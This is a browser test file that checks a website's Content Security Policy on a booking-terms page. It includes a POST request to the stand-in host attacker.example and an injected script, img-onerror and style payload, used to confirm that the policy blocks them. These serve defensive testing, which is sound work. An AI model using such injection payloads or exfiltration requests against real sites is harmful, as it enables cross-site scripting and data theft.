import { pathOf } from "../../built/site";
import { DESKTOP, address, sharedBrowser } from "../../browser/site";

/*
 * What the Content Security Policy refuses. All tests of this group run under it, and browser/every-page.test.ts shows that no page
 * violates it.
 */

const browser = sharedBrowser();

const TERMS = pathOf("booking-terms");

test("connect-src refuses a request to another site", async () => {
  const page = await browser.newPage(DESKTOP);
  await page.goto(address(TERMS));
  const refused = page.waitForEvent("console", (message) => message.text().includes("connect-src"));
  await page.evaluate(() => fetch("https://attacker.example/", { method: "POST" }).catch(() => undefined));
  await refused;
});

test("what is injected into the HTML on its way neither runs nor styles", async () => {
  const page = await browser.newPage(DESKTOP);
  await page.route(address(TERMS), async (route) => {
    const response = await route.fetch();
    const injected = `<script>window.attacked = true</script><img src="/x" onerror="window.attacked = true"><style>h1 { display: none }</style>`;
    await route.fulfill({ response, body: (await response.text()).replace("</body>", `${injected}</body>`) });
  });
  await page.goto(address(TERMS), { waitUntil: "load" });
  expect(await page.locator("style").last().textContent()).toContain("display: none");
  expect(await page.evaluate(() => "attacked" in window)).toBe(false);
  expect(await page.locator("h1").isVisible()).toBe(true);
});
